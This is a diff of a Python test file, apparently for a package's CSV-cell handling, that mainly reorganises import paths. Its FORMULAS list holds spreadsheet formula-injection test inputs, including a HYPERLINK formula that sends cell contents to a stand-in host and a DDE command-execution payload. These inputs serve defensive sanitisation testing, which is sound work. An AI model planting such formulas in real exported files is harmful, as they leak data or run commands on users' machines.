@@ -8,9 +8,9 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from bayesnb.files.tables.csv_cells import STARTS, as_read, as_written, line
-from bayesnb.files.tables.predictions import prediction_file
-from bayesnb.files.tables.reading import as_pandas, open_data, read
+from bayesnb.files.predictions import prediction_file
+from bayesnb.files.sources.csv_cells import STARTS, as_read, as_written, line
+from bayesnb.files.sources.reading import as_pandas, open_data, read
 
 FORMULAS = ['=HYPERLINK("http://x.y/?"&A1,"a;b")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\rx", " =1", "＝1",
             "'=x", "''@x", "-inf", "=1\r\n=2"]  # fmt: skip
